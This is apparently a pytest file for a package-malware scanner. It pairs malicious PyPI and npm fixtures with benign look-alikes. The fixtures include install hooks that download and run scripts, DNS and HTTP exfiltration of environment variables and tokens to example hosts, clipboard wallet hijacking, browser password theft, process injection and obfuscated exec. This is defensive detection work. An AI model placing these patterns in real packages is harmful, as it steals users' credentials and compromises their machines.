"""The attack patterns of issue 14 (verdict/rules/patterns.yaml): each rule fires on a malicious
fixture and stays quiet on a benign look-alike modelled on real packages' code, through the real
static pass and verdict; the evasions the issue lists (computed names, decoding through a variable,
hiding in tests/) are among the malicious fixtures.

TEST FIXTURES, NOT MALWARE: the snippets reproduce attack patterns as source text only; their
hosts are reserved example names or documentation addresses."""

from __future__ import annotations

import pytest

from verdict.fixtures import npm, sdist
from pkgtrace.model import Ecosystem

P, N = Ecosystem.PYPI, Ecosystem.NPM
TAIL = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0.0')\n"


def setup_py(body: str) -> dict[str, str]:
    return {"setup.py": body + TAIL, "pkg/__init__.py": ""}


def module(body: str, path: str = "pkg/core.py") -> dict[str, str]:
    return {"setup.py": TAIL, "pkg/__init__.py": "from . import core\n", path: body}


def py(files: dict[str, str]):
    return (P, "pkg", sdist("pkg", files))


def js(files: dict[str, str], scripts: dict | None = None):
    return (N, "jspkg", npm("jspkg", files, scripts=scripts))


CASES = [
    ("STATIC-SETUP-DOWNLOAD-RUN",
     # barcodegeneratorqr-style cmdclass override
     py(setup_py("import requests as u, subprocess, sys\nfrom setuptools.command.install import install\n"
                 "class I(install):\n    def run(self):\n        r = u.get(URL)\n"
                 "        with open('q.py', 'wb') as f:\n            f.write(r.content)\n"
                 "        subprocess.check_call([sys.executable, 'q.py'])\n")),
     # pysqlite-style: fetch the amalgamation and build an Extension
     py(setup_py("import urllib.request, subprocess\nfrom setuptools import Extension\n"
                 "urllib.request.urlretrieve(AMALGAMATION, 'sqlite.zip')\nsubprocess.check_call(['unzip', 'sqlite.zip'])\n"
                 "ext = Extension('pkg._sqlite', ['src/module.c'])\n"))),
    ("STATIC-SETUP-DNS-PROBE",
     py(setup_py("import subprocess\nsubprocess.getoutput('dig @1.1.1.1 install.api.pkg-callback.example')\n")),
     py(setup_py("import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n"))),
    ("STATIC-INSTALL-OVERRIDE-DELETES",
     py(setup_py("import shutil, os\nfrom setuptools.command.install import install\nclass I(install):\n"
                 "    def run(self):\n        shutil.rmtree(os.path.expanduser('~/Documents'))\ncmdclass = {'install': I}\n")),
     py(setup_py("import shutil, os\nfrom setuptools.command.install import install\nclass I(install):\n"
                 "    def run(self):\n        shutil.rmtree('build', ignore_errors=True)\ncmdclass = {'install': I}\n"))),
    ("STATIC-SETUP-DNS-PROBE",
     # the same callback from the package's __init__ (runs on import, not only at install)
     py({"setup.py": TAIL, "pkg/__init__.py": "import socket\ntry:\n    socket.gethostbyname('pkg.probe.callback.example')\n"
         "except socket.gaierror:\n    pass\n"}),
     # the local-address idiom many packages use at import
     py({"setup.py": TAIL, "pkg/__init__.py": "import socket\nHOST_IP = socket.gethostbyname(socket.gethostname())\n"})),
    ("STATIC-DOWNLOAD-WRITE-RUN-FILE",
     # an import-time thread fetches a program from a raw address and starts the file it wrote
     py({"setup.py": TAIL, "pkg/__init__.py": "from .core import start\nstart()\n",
         "pkg/core.py": "import requests, subprocess, threading\nFILE = 'Helper.exe'\n"
                        "def _get():\n    r = requests.get(URL, stream=True)\n    with open(FILE, 'wb') as f:\n"
                        "        for chunk in r.iter_content(8192):\n            f.write(chunk)\n"
                        "    subprocess.Popen([FILE])\n"
                        "def start():\n    threading.Thread(target=_get, daemon=True).start()\n"}),
     # pytailwindcss-style: fetch the tool's own binary, make it executable, run it with the user's arguments
     py(module("import os, subprocess, urllib.request\ndef run(args):\n    if not os.path.exists(bin_path):\n"
               "        with urllib.request.urlopen(url) as resp, open(bin_path, 'wb') as f:\n"
               "            f.write(resp.read())\n        os.chmod(bin_path, 0o755)\n"
               "    return subprocess.run([bin_path, *args])\n"))),
    ("STATIC-DNS-EXFIL-ENCODED-LABELS",
     # an install override resolves base32(user).base32(host).<callback domain>
     py(setup_py("import base64, os, socket\nfrom setuptools.command.install import install\nclass I(install):\n"
                 "    def run(self):\n        u = base64.b32encode(os.getlogin().encode()).decode().rstrip('=')\n"
                 "        h = base64.b32encode(socket.gethostname().encode()).decode().rstrip('=')\n"
                 "        d = u + '.' + h + '.a.callback.example'\n        try:\n            socket.gethostbyname(d)\n"
                 "        except socket.gaierror:\n            pass\n")),
     # the FQDN idiom at import, next to an encoded auth header (one label: the machine's own name)
     py({"setup.py": TAIL, "pkg/__init__.py": "import base64, socket\nfqdn = socket.gethostname() + '.corp.example.com'\n"
         "ADDR = socket.gethostbyname(fqdn)\nAUTH = base64.b64encode(b'user:pass')\n"})),
    ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
     # maratlib-style: fetch a script to a file, make it executable, run it
     py(setup_py("import subprocess\nsubprocess.getoutput('cd /tmp && wget https://files.example/s.sh -O s.sh && "
                 "chmod 777 s.sh && bash s.sh')\n")),
     # fetch an archive and unpack it (build scripts of packages bundling a C library)
     py(setup_py("import os\nos.system('curl -L https://files.example/lib-1.2.tar.gz -o lib.tar.gz && tar xzf lib.tar.gz')\n"))),
    ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
     js({"index.js": "module.exports = 1;\n"},
        scripts={"postinstall": "curl -s https://files.example/i -o /tmp/.i; chmod +x /tmp/.i; /tmp/.i"}),
     js({"index.js": "module.exports = 1;\n"},
        scripts={"postinstall": "curl -sL https://files.example/data.json -o data.json && node build.js"})),
    ("STATIC-DNS-EXFIL",
     py(module("import socket\ndef send(data):\n    h = data.encode().hex()\n"
               "    for i in range(0, len(h), 50):\n        socket.gethostbyname(f'{h[i:i+50]}.c.exfil.example')\n"
               "send(socket.gethostname())\n")),
     # slixmpp-style SRV lookup
     py(module("import dns.resolver\ndef srv(domain):\n    for r in dns.resolver.resolve(f'_xmpp-client._tcp.{domain}', 'SRV'):\n"
               "        yield r.target\n"))),
    ("STATIC-DNS-EXFIL",  # npm: dns.lookup with hex chunks
     js({"index.js": "const dns = require('dns'), os = require('os');\nconst h = Buffer.from(os.hostname()).toString('hex');\n"
                     "for (const c of h.match(/.{1,60}/g)) dns.lookup(`${c}.x.exfil.example`, () => {});\n"}),
     js({"index.js": "const dns = require('dns');\nmodule.exports = (host, cb) => dns.lookup(host, cb);\n"})),
    ("STATIC-PY-DECODE-RUN-PROCESS",
     py(module("import base64, subprocess\ncmd = base64.b64decode(BLOB).decode()\nlog('x')\nsubprocess.Popen(cmd.split())\n")),
     py(module("import base64, subprocess\ntoken = base64.b64decode(BLOB)\nsubprocess.run(['git', 'status'])\n"))),
    ("STATIC-PY-DECODE-RUN-PROCESS",  # python -c with the decoded code
     py(module("import base64, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', base64.b64decode(B).decode()])\n")),
     py(module("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.path)'])\n"))),
    ("STATIC-PY-DECODE-EXEC-VAR",
     py(module("import base64\npayload = base64.b64decode(DATA)\nx = 1\nexec(payload)\n")),
     py(module("import base64\nicon = base64.b64decode(ICON)\nexec(compile(open('cfg.py').read(), 'cfg.py', 'exec'))\n"))),
    ("STATIC-PY-XOR-DECODE-SHELL",
     # the launcher's name XOR-encoded, decoded and run in a shell on a file the package wrote
     py(module("import subprocess\ndef load(path, key):\n    command = b'\\xae\\xa9\\xb2\\xb8\\xb0\\xb0\\xef\\xee'\n"
               "    name = bytes([byte ^ key for byte in command]).decode()\n"
               "    subprocess.run(f'{name} \"{path}\",Entry', shell=True)\n")),
     # websocket-client-style masking of runtime data, in a module that also runs a shell command
     py(module("import subprocess\nMAGIC = b'\\x81\\x82\\x83\\x84\\x85\\x86'\ndef mask(key, data):\n"
               "    return bytes([b ^ k for b, k in zip(data, key * len(data))])\n"
               "def version():\n    return subprocess.run('git --version', shell=True, capture_output=True)\n"))),
    ("STATIC-PY-CODEC-ENCODED-EXEC",
     py(module("exec(b'\\x89\\x94\\x97'.decode('cp1026'))\n")),
     py(module("exec(open(path, encoding='utf-8').read())\n"))),
    ("STATIC-PY-CODEC-ENCODED-EXEC",
     py(module("exec('\\151\\155\\160\\157\\162\\164\\040\\157\\163')\n")),
     py(module("print('\\151\\155\\160\\157\\162\\164\\040\\157\\163')\n"))),
    ("STATIC-PY-BUILTINS-LOOKUP",
     py(module("f = vars(__builtins__)['ex' + 'ec']\nf(CODE)\n")),
     # six-style: names bound into globals()
     py(module("for name in __all__:\n    globals()[name] = getattr(_impl, name)\n"))),
    ("STATIC-PY-BUILTINS-LOOKUP",
     py(module("g = globals()['__builtins__']\nrun = globals()[''.join(['e', 'x', 'e', 'c'])]\n")),
     py(module("handler = globals().get('handle_' + kind)\n"))),
    ("STATIC-PY-BUILTINS-LOOKUP",  # a code-execution agent naming builtins it blocks (prismal-ai)
     py(module("f = vars(__builtins__)[bytes([101, 120, 101, 99]).decode()]\n")),
     py(module('BLOCKED = "getattr(__builtins__, \'__import__\')"\nx = getattr(__builtins__, "__import__")\n'))),
    ("STATIC-PY-BUILTINS-LOOKUP",
     # a reversed name read out of globals() and called, from the package's __init__
     py({"setup.py": TAIL, "pkg/__init__.py": "globals()['lave'[::-1]](CODE)\n"}),
     # kombu-style: a flag stored under a reversed name to hide it from linters (a store reaches nothing)
     py({"setup.py": TAIL, "pkg/__init__.py": "STATICA_HACK = True\nglobals()['kcah_acitats'[::-1].upper()] = False\n"
         "if STATICA_HACK:\n    from pkg.core import Thing\n"})),
    ("STATIC-PY-EXEC-ALIASED",
     # Hyperion's first line: exec renamed among other builtins, then called under the new names
     py(module("from builtins import *\nStatistics, _square, Product, MemoryAccess = exec, str, tuple, map\n"
               "Statistics(_square(Product(MemoryAccess(chr, DATA))))\n")),
     # future/six-style compatibility shims: one name bound to exec, builtins aliased without it
     py(module("exec_ = exec\n_str, _int, _float = str, int, float\n"))),
    ("STATIC-INSTALL-ARCHIVE-EXEC",
     # an install override runs a module out of a zip the sdist ships
     py(setup_py("import sys, zipimport, importlib.util\nfrom setuptools.command.install import install\n"
                 "def load():\n    zi = zipimport.zipimporter('my.zip')\n    spec = importlib.util.spec_from_loader('my', zi)\n"
                 "    mod = importlib.util.module_from_spec(spec)\n    zi.exec_module(mod)\n    mod.hello()\n"
                 "class I(install):\n    def run(self):\n        load()\n        install.run(self)\n")),
     # a plugin loader that imports zipped plugins when the user asks (not at install)
     py(module("import zipimport\ndef load_plugin(path, name):\n    return zipimport.zipimporter(path).load_module(name)\n"))),
    ("STATIC-PY-SILENT-POPEN",
     py(module("import subprocess\nsubprocess.Popen(['stub.exe'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
               "                 creationflags=0x08000000)\n")),
     # webbrowser-style: open a viewer quietly
     py(module("import subprocess\nsubprocess.Popen(['xdg-open', path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
               "                 start_new_session=True)\n"))),
    # salmalm's CLI starts its own server module in the background; a silenced `python -c` or a
    # silenced pip install are still hidden launches
    ("STATIC-PY-SILENT-POPEN",
     py(module("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', CODE], stdout=subprocess.DEVNULL,\n"
               "                 stderr=subprocess.DEVNULL, start_new_session=True)\n")),
     py(module("import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'salmalm'], stdout=subprocess.DEVNULL,\n"
               "                 stderr=subprocess.DEVNULL, start_new_session=True)\n"))),
    ("STATIC-PY-SILENT-POPEN",
     py(module("import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'pip', 'install', NAME], stdout=subprocess.DEVNULL,\n"
               "                 stderr=subprocess.DEVNULL, start_new_session=True)\n")),
     py(module("import subprocess, sys\nsubprocess.Popen(\n    [sys.executable, '-m', 'myapp.server', '--port', '8000'],\n"
               "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"))),
    ("STATIC-JS-DETACHED-SILENT-CHILD",
     js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['p.js'], {detached: true, stdio: 'ignore'}).unref();\n"}),
     # a CLI that starts a detached worker from a command (not at require time)
     js({"index.js": "module.exports = 1;\n", "lib/daemon.js": "const {spawn} = require('child_process');\n"
         "exports.start = () => spawn(process.execPath, ['w.js'], {detached: true, stdio: 'ignore'}).unref();\n"})),
    ("STATIC-JS-COMPUTED-MODULE",
     js({"index.js": "const cp = require('child_' + 'process');\ncp.exec('id');\n"}),
     js({"index.js": "const plugin = require('./plugins/' + name);\nmodule.exports = plugin;\n"})),
    ("STATIC-JS-COMPUTED-MODULE",  # rollup's import.meta.url shim (unplugin-dts)
     js({"index.js": "const m = require('chi' + 'ld_process');\nm.exec('id');\n"}),
     js({"index.js": "const u = require('u' + 'rl').pathToFileURL(__filename).href;\n"})),
    ("STATIC-CLIPBOARD-HIJACK",  # a payment widget copying the deposit address (coinley-pay)
     js({"index.js": "setInterval(async () => { const t = await navigator.clipboard.readText();\n"
                     "if (/^0x[a-fA-F0-9]{40}$/.test(t)) await navigator.clipboard.writeText(MINE); }, 500);\n"}),
     js({"index.js": "// pay to your wallet\nconst re = /^0x[a-fA-F0-9]{40}$/;\nbutton.onclick = () => navigator.clipboard.writeText(depositAddress);\n"})),
    ("STATIC-DNS-EXFIL",  # jupyterlab's webpack config
     js({"index.js": "const dns = require('dns');\nconst h = Buffer.from(process.env.HOME).toString('hex');\n"
                     "for (const c of h.match(/.{1,60}/g)) dns.resolve4(c + '.x.exfil.example', () => {});\n"}),
     js({"index.js": "const path = require('path');\nfor (const name of names) {\n  const p = require.resolve(path.join(name, 'package.json'));\n"
                     "  const hex = Buffer.from(p).toString('hex');\n}\n"})),
    ("STATIC-JS-COMPUTED-MODULE",
     js({"index.js": "const e = Reflect.get(process, 'env');\nmodule.exports = e;\n"}),
     js({"index.js": "const v = Reflect.get(target, 'value');\nmodule.exports = v;\n"})),
    ("STATIC-JS-COMPUTED-MODULE",
     js({"index.js": "const r = process.mainModule.require;\nr('child_process').execSync('id');\n"}),
     js({"index.js": "define(['jquery'], function ($) { return $; });\nrequire(['jquery'], function ($) {});\n"})),
    ("STATIC-JS-STRING-ARRAY-OBFUSCATION",
     js({"index.js": "function _0x1a2b(){var _0x3c4d=['log','env','exec'];_0x1a2b=function(){return _0x3c4d;};return _0x1a2b();}\n"
                     "(function(_0x5e6f,_0x7a8b){var _0x9c=_0x5e6f();while(!![]){try{break;}catch(e){_0x9c['push'](_0x9c['shift']());}}}(_0x1a2b,0x1));\n"}),
     js({"index.js": "function hash(s){let h=0;for(let i=0;i<s.length;i++){h=(h<<5)-h+s.charCodeAt(i)^7;}return h;}\nmodule.exports=hash;\n"})),
    ("STATIC-JS-STRING-ARRAY-OBFUSCATION",  # XOR decoding loop feeding eval
     js({"index.js": "let o='';for(let i=0;i<d.length;i++){o+=String.fromCharCode(d.charCodeAt(i)^k);}\neval(o);\n"}),
     js({"index.js": "let o='';for(let i=0;i<d.length;i++){o+=String.fromCharCode(d.charCodeAt(i)^k);}\nconsole.log(o);\n"})),
    ("STATIC-JS-HEX-REQUIRE-EVAL",
     js({"index.js": "const m = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());\nm.exec('id');\n"}),
     # lodash/core-js: the global object
     js({"index.js": "var root = new Function('return this')();\nmodule.exports = root;\n"})),
    ("STATIC-JS-DECODE-EXEC",  # exec on a child_process handle, not RegExp#exec (satori)
     js({"index.js": "require('child_process').exec(Buffer.from(CMD, 'base64').toString());\n"}),
     js({"index.js": "const m = /^data:(?<t>[a-z/+]+);base64,(?<d>.*)/g.exec(url).groups; const b = Buffer.from(m.d, 'base64');\n"})),
    ("STATIC-OBFUSCATED-INSTALL-CODE",  # pyspark: setup.py imports the package, which imports protobuf modules
     py(setup_py("exec(__import__('zlib').decompress(b'" + "\\x78" * 1200 + "'))\n")),
     py({"setup.py": "from pkg import proto_pb2\n" + TAIL, "pkg/__init__.py": "",
         "pkg/proto_pb2.py": "from google.protobuf import descriptor_pool as _descriptor_pool\n"
         "DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'" + "\\n\\x18" * 1200 + "')\n"
         "_builder = lambda: None\n"})),
    ("STATIC-JS-ENV-EXFIL",
     js({"index.js": "const axios = require('axios');\naxios.post('https://collect.example/e', JSON.stringify(process.env));\n"}),
     js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['x.js'], {env: {...process.env, FORCE_COLOR: '1'}});\n"})),
    # a copy of the environment handed to a child process, in a CLI that also fetches
    # (@n24q02m/mnemo-plugin); a GitHub token read by an API client (@docker/actions-toolkit);
    # the copy sent through a variable, or a token in the body, is exfiltration
    ("STATIC-JS-ENV-EXFIL",
     js({"index.js": "const axios = require('axios');\nconst e = {...process.env};\nconst host = 'https://collect.example/e';\n"
                     "axios.post(host, e);\n"}),
     js({"index.js": "const { spawn } = require('child_process');\nasync function memories() {\n"
                     "  const child = spawn('uvx', ['mnemo-mcp'], { env: { ...process.env, LOG_LEVEL: 'WARNING' } });\n"
                     "  return child;\n}\nconsole.error('Install uv: https://docs.astral.sh/uv/');\n"
                     "fetch('https://api.example.com/v1/ping');\n"})),
    ("STATIC-JS-ENV-EXFIL",
     js({"index.js": "fetch('https://collect.example/t', {method: 'POST', body: JSON.stringify({t: process.env.NPM_TOKEN})});\n"}),
     js({"index.js": "class GitHub {\n  constructor(opts) {\n    this.githubToken = opts?.token || process.env.GITHUB_TOKEN;\n  }\n"
                     "  async releases() {\n    return fetch('https://api.github.com/repos/docker/buildx/releases', "
                     "{ headers: { authorization: `token ${this.githubToken}` } });\n  }\n}\nmodule.exports = GitHub;\n"})),
    # a CLI that installs a tool with its official installer when its user asks (zcf): only the
    # on-call rule, not the install/import one; the same command in setup.py is the latter
    ("STATIC-SHELL-DOWNLOAD-THEN-RUN-ON-CALL",
     js({"index.js": "module.exports = require('./dist/cli.js');\n",
         "dist/cli.js": "const { execSync } = require('child_process');\nexports.install = () => execSync("
                        "'curl -fsSL https://tool.example/install.sh -o install.sh && sh install.sh');\n"}),
     js({"index.js": "module.exports = require('./dist/cli.js');\n",
         "dist/cli.js": "const { execSync } = require('child_process');\nexports.fetchLib = () => execSync("
                        "'curl -L https://files.example/lib.tar.gz -o lib.tar.gz && tar xzf lib.tar.gz');\n"})),
    ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
     py(setup_py("import subprocess\nsubprocess.run(['cmd', '/c', 'curl -fsSL https://tool.example/install.cmd -o install.cmd && install.cmd'])\n")),
     py(module("import subprocess\ndef install_claude():\n    subprocess.run(['cmd', '/c', "
               "'curl -fsSL https://tool.example/install.cmd -o install.cmd && install.cmd && del install.cmd'])\n"))),
    # a template of code run in a remote sandbox, its payload a placeholder (better-rlm); the
    # same lines with a blob in place of the placeholder decode and run that blob
    ("STATIC-PY-DECODE-EXEC-VAR",
     py(module('import base64, io\ncode = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=").decode()\nbuf = io.StringIO()\n'
               'exec(code, {}, {})\n')),
     py(module('SCAFFOLD = f"""\nimport base64, io\ncode = base64.b64decode("{code_b64}").decode()\nbuf = io.StringIO()\n'
               'exec(code, {{}}, {{}})\n"""\n'))),
    ("STATIC-NPM-WORM-PUBLISH",
     js({"index.js": "", "install.js": "const {execSync} = require('child_process');\nconst t = require('fs').readFileSync(home + '/.npmrc');\n"
                     "execSync('npm publish --access public');\n"}, scripts={"postinstall": "node install.js"}),
     # a release script run by the maintainer, not at install
     js({"index.js": "", "scripts/release.js": "const {execSync} = require('child_process');\n"
                     "if (!process.env.NPM_TOKEN) throw 1;\nexecSync('npm publish');\n"}, scripts={"release": "node scripts/release.js"})),
    ("STATIC-CLIPBOARD-HIJACK",
     py(module("import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^0x[a-fA-F0-9]{40}$', t):\n        pyperclip.copy(MINE)\n")),
     py(module("import pyperclip\ndef copy_password(p):\n    pyperclip.copy(p)\n"))),
    ("STATIC-CLIPBOARD-HIJACK",
     js({"index.js": "const clipboardy = require('clipboardy');\nsetInterval(() => { const t = clipboardy.readSync();\n"
                     "if (/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$/.test(t)) clipboardy.writeSync(wallet); }, 500);\n"}),
     js({"index.js": "const clipboardy = require('clipboardy');\nmodule.exports = (s) => clipboardy.writeSync(s);\n"})),
    ("STATIC-SCREEN-CAPTURE-SEND",
     py(module("from PIL import ImageGrab\nimport requests\nImageGrab.grab().save('s.png')\nrequests.post(HOOK, files={'f': open('s.png', 'rb')})\n")),
     py(module("import pyautogui\ndef snap(path):\n    pyautogui.screenshot().save(path)\n"))),
    ("STATIC-BROWSER-PASSWORD-THEFT",
     py(module("import sqlite3, win32crypt\ndb = sqlite3.connect(p + 'Login Data')\n"
               "for u, pw in db.execute('SELECT action_url, password_value FROM logins'):\n"
               "    win32crypt.CryptUnprotectData(pw)\n")),
     py(module("import sqlite3\ndb = sqlite3.connect(profile + '/History')\nrows = db.execute('SELECT url FROM urls')\n"))),
    ("STATIC-PROCESS-INJECTION",
     py(module("import ctypes\nk = ctypes.windll.kernel32\naddr = k.VirtualAllocEx(h, 0, n, 0x3000, 0x40)\n\n"
               "k.WriteProcessMemory(h, addr, sc, n, 0)\n\nk.CreateRemoteThread(h, None, 0, addr, None, 0, None)\n")),
     # a JIT that allocates executable memory in its own process
     py(module("import ctypes\nbuf = ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)\nctypes.memmove(buf, code, n)\n"))),
    ("STATIC-PROCESS-INJECTION",
     py(module("open('/etc/ld.so.preload', 'w').write('/tmp/.x.so')\n")),
     py(module("import os\nos.environ['LD_PRELOAD'] = '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'\n"))),
    ("STATIC-SHADY-URL",
     py({"setup.py": TAIL, "pkg/__init__.py": "import requests\nrequests.get('https://grabify.link/ABC123')\n"}),
     py({"setup.py": TAIL, "pkg/__init__.py": '"""Docs: https://bit.ly/pkg-docs"""\n'})),
    ("STATIC-SHADY-URL",
     js({"index.js": "fetch('https://relay.acme-cdn.workers.dev/c?d=' + d);\n"}),
     js({"index.js": "// mirrored at https://relay.acme-cdn.workers.dev\nmodule.exports = 1;\n"})),
    ("STATIC-IP-LOOKUP-INSTALL",
     py(setup_py("import requests\nip = requests.get('https://api.ipify.org').text\n")),
     py({"setup.py": TAIL, "pkg/__init__.py": "", "pkg/geo.py": "import requests\n"
         "def my_ip():\n    return requests.get('https://api.ipify.org').text\n"})),
    ("STATIC-ENV-POSTED",
     py(module("import os, requests\nrequests.post('https://c.example/e', json=dict(os.environ))\n")),
     py(module("import os, subprocess, requests\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\nrequests.post(URL, json=payload)\n"))),
    ("STATIC-ENV-POSTED",
     py(module("import os, requests\nrequests.get(f\"https://c.example/{os.environ.get('AWS_SECRET_ACCESS_KEY')}\")\n")),
     py(module("import os, requests\nrequests.get(f\"https://{os.environ.get('API_HOST')}/v1/items\")\n"))),
]


@pytest.mark.parametrize("rule,malicious,benign", CASES, ids=[c[0] for c in CASES])
def test_pattern_fires_on_malicious_and_not_on_lookalike(judged, rule, malicious, benign):
    bad = judged(malicious[2], malicious[0], malicious[1])
    assert rule in bad["rules_fired"], bad["findings"]
    f = next(f for f in bad["findings"] if f["rule"] == rule)
    assert f["evidence"].get("file") and f["evidence"].get("line", 0) >= 1
    good = judged(benign[2], benign[0], benign[1])
    assert rule not in good["rules_fired"], good["findings"]
